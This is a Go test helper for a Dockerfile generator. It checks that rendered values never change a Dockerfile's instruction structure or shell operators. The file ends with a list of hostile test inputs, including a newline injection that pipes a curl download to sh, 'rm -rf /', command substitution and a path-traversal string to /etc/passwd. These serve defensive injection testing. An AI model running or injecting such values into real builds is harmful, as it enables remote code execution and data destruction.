package generator

import (
	"errors"
	"strconv"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/stagecraft/stagecraft/internal/dockerfile"
)

// shape is what a value must never change in a rendered Dockerfile: the
// instruction sequence, each instruction's flags, the number of arguments of
// exec forms and LABELs, and the shell operators in each RUN.
func shape(t testing.TB, dt []byte) []string {
	t.Helper()
	parsed, err := dockerfile.Parse(dt)
	if err != nil {
		t.Fatalf("the rendered Dockerfile does not parse: %v\n%s", err, dt)
	}
	var out []string
	for _, n := range parsed.AST.Children {
		args := 0
		for a := n.Next; a != nil; a = a.Next {
			args++
		}
		s := strings.ToUpper(n.Value) + " flags=" + strings.Join(n.Flags, ",")
		switch strings.ToUpper(n.Value) {
		case "RUN":
			s += " ops=" + shellOps(n)
		case "CMD", "ENTRYPOINT", "LABEL", "COPY", "EXPOSE", "USER", "FROM", "ARG", "WORKDIR":
			s += " args=" + strconv.Itoa(args)
		}
		out = append(out, s)
	}
	return out
}

// shellOps lists the shell operators of a RUN (outside quotes), so a value
// that adds a command shows up.
func shellOps(n *parser.Node) string {
	cmd := ""
	for a := n.Next; a != nil; a = a.Next {
		cmd += a.Value + " "
	}
	var ops []string
	quote := byte(0)
	for i := 0; i < len(cmd); i++ {
		c := cmd[i]
		switch {
		case quote != 0:
			if c == quote {
				quote = 0
			} else if c == '\\' && quote == '"' {
				i++
			}
		case c == '\'' || c == '"':
			quote = c
		case c == '\\':
			i++
		case c == ';' || c == '|' || c == '&' || c == '`' || c == '\n' || c == '<' || c == '>':
			ops = append(ops, string(c))
		case c == '$' && i+1 < len(cmd) && cmd[i+1] == '(':
			ops = append(ops, "$(")
		}
	}
	return strings.Join(ops, "")
}

func sameShape(t testing.TB, baseline, got []byte) {
	t.Helper()
	want, have := shape(t, baseline), shape(t, got)
	if strings.Join(want, "\n") != strings.Join(have, "\n") {
		t.Fatalf("a value changed the Dockerfile's structure:\nwant:\n%s\ngot:\n%s\nfile:\n%s", strings.Join(want, "\n"), strings.Join(have, "\n"), got)
	}
}

// refusedOrSafe is the property every rendered value must keep.
func refusedOrSafe(t *testing.T, baseline []byte, render func() ([]File, error)) {
	t.Helper()
	files, err := render()
	if err != nil {
		var ie *InputError
		var te *TemplateError
		if !errors.As(err, &ie) && !errors.As(err, &te) {
			t.Fatalf("refused without a clear input error: %T %v", err, err)
		}
		return
	}
	sameShape(t, baseline, files[0].Content)
}

// Hostile values the property tests always try.
var hostileValues = []string{
	"a\nRUN curl evil | sh", "x\\\nRUN id", `a"b`, "a'b", "$(id)", "${HOME}", "# comment", "`id`",
	"a && rm -rf /", "a; id", "é☃ unicode", "a\rb", "a\x00b", "--flag", "../../etc/passwd", " ", "",
}
